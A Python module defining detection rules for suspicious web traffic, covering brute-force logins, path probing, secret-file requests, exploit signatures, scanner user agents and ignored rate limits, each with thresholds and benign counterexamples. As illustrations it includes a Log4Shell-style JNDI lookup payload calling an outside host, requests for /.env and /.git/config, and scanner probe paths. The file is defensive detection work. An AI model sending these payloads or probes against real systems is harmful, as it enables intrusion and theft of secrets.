"""The burst rules: how many of a symptom, in how long, make a network suspicious. A new rule is one row here."""

from __future__ import annotations

from ip_tracking.detection.finding import Rule, Severity

RULES: tuple[Rule, ...] = (
    Rule(
        name="login-brute-force",
        title="Many failed logins",
        owasp="OAT-007",
        severity=Severity.HIGH,
        symptom="failed-login",
        threshold=10,
        window_s=300,
        reason="People give up or ask for a new password after three to five tries. Ten failures in five minutes are a "
        "machine's, or those of a whole household that forgot at once.",
        example="Ten POSTs to /api/auth/login/ answered 401 within five minutes.",
        nearest_benign="A mobile app that retries a stale password: it stops at its own limit, mostly three or five.",
    ),
    Rule(
        name="login-hammering",
        title="Failed logins faster than anyone types",
        owasp="OAT-007",
        severity=Severity.MEDIUM,
        symptom="failed-login",
        threshold=6,
        window_s=20,
        reason="To read the refusal and type a password again takes five seconds and more, so that one person reaches "
        "four or five in twenty.",
        example="Six POSTs to /api/auth/login/ answered 401 within a second.",
        nearest_benign="A form whose button is clicked twice or three times at each try: people slow down to retype.",
        decides=False,  # the login policy already holds such a client; refusing it everything can wait for the tenth
    ),
    Rule(
        name="probing",
        title="Guessing at addresses that do not exist",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="missing-path",
        threshold=10,
        window_s=60,
        distinct="folder",
        reason="Broken links lead into one part of a site. Missing addresses in ten parts of it within a minute come "
        "from a list.",
        example="/old/, /admin.php, /test/, /phpmyadmin/ ... ten of them, each answered 404.",
        nearest_benign="A page whose images are all gone: what pages embed is not counted.",
    ),
    Rule(
        name="enumeration",
        title="Trying name after name",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="missing-path",
        threshold=30,
        window_s=60,
        distinct="path",
        reason="A crawler that walks into a removed part of a site meets a dozen missing pages in a minute, then stops "
        "finding links to them. Thirty different ones, a new one every two seconds, are made up.",
        example="/api/v1/users, /api/v1/admin, /api/v1/debug ... thirty of them within a minute.",
        nearest_benign="A gallery of deleted products: addresses that differ only by a number or an identifier are "
        "one.",
    ),
    Rule(
        name="foreign-software",
        title="Looking for software that is not here",
        owasp="OAT-018",
        severity=Severity.MEDIUM,
        symptom="foreign-software",
        threshold=3,
        window_s=300,
        distinct="path",
        reason="One old bookmark or one link to the previous site is one address. Three pages of programs that this "
        "site does not run, within five minutes, are a search for one that has a hole.",
        example="/wp-login.php, /phpmyadmin/, /cgi-bin/test-cgi",
        nearest_benign="A search engine that remembers the WordPress this site once was: pictures do not count, and it "
        "comes back for the pages one by one, minutes apart.",
    ),
    Rule(
        name="foreign-hammering",
        title="Keeps at software that is not here",
        owasp="OAT-007",
        severity=Severity.MEDIUM,
        symptom="foreign-software",
        threshold=30,
        window_s=600,
        reason="Machines guess passwords at /wp-login.php without looking whether it is there. Three a minute for ten "
        "minutes are more than anything left over from an old site sends.",
        example="Thirty POSTs to /wp-login.php within ten minutes, each answered 404.",
        nearest_benign="A monitor or an app that still asks the WordPress this site once was, once a minute.",
    ),
    Rule(
        name="sensitive-files",
        title="Asking for files that hold secrets",
        owasp="OAT-014",
        severity=Severity.HIGH,
        symptom="sensitive-file",
        threshold=2,
        window_s=600,
        reason="No page links to a secret. One request may be a curious person's, two within ten minutes are a search.",
        example="/.env, then /.git/config",
        nearest_benign="A monitor that checks every hour that /.env is closed: one request in the window.",
    ),
    Rule(
        name="exploit-attempt",
        title="Sent an exploit",
        owasp="OAT-014",
        severity=Severity.HIGH,
        symptom="exploit",
        threshold=1,
        window_s=60,
        reason="Nothing harmless sends these constructions, so that one is enough.",
        example="/?x=${jndi:ldap://198.51.100.7/a}",
        nearest_benign="A shopper who searches for O'Reilly or pastes a line of code: the signatures ask for the whole "
        "construction, never for a quote or a word alone.",
    ),
    Rule(
        name="attack-tool",
        title="Came with a tool for finding holes",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="scanner-agent",
        threshold=1,
        window_s=60,
        reason="The agent says so itself.",
        example="User-Agent: Mozilla/5.00 (Nikto/2.1.6)",
        nearest_benign="A tester whom the owner hired: allow that network while the test lasts.",
    ),
    Rule(
        name="malformed-requests",
        title="Sent something that is no HTTP",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="malformed",
        threshold=5,
        window_s=60,
        reason="A cut connection leaves one broken request. Five in a minute speak other protocols at this port to see "
        "what answers.",
        example='Requests such as "QUIT" or "\\x03\\x00\\x00/\\xE0", each answered 400.',
        nearest_benign="A browser that speaks TLS to the plain port: that greeting is not counted.",
    ),
    Rule(
        name="keeps-hammering",
        title="Goes on although it is refused",
        owasp="OAT-015",
        severity=Severity.MEDIUM,
        symptom="refused-by-policy",
        threshold=300,
        window_s=600,
        reason="Whoever waits as Retry-After says is refused once a minute: ten times in ten minutes, two hundred "
        "times with a page of twenty requests. Three hundred, one every two seconds, are read by nobody.",
        example="A client over its limit that repeats its request each second, whatever the 429 says.",
        nearest_benign="A library that retries each second, or a busy office a little over 1,200 a minute: both are "
        "found. The limit holds them, so that this only files: tell them, raise the limit, or block.",
        decides=False,
    ),
)
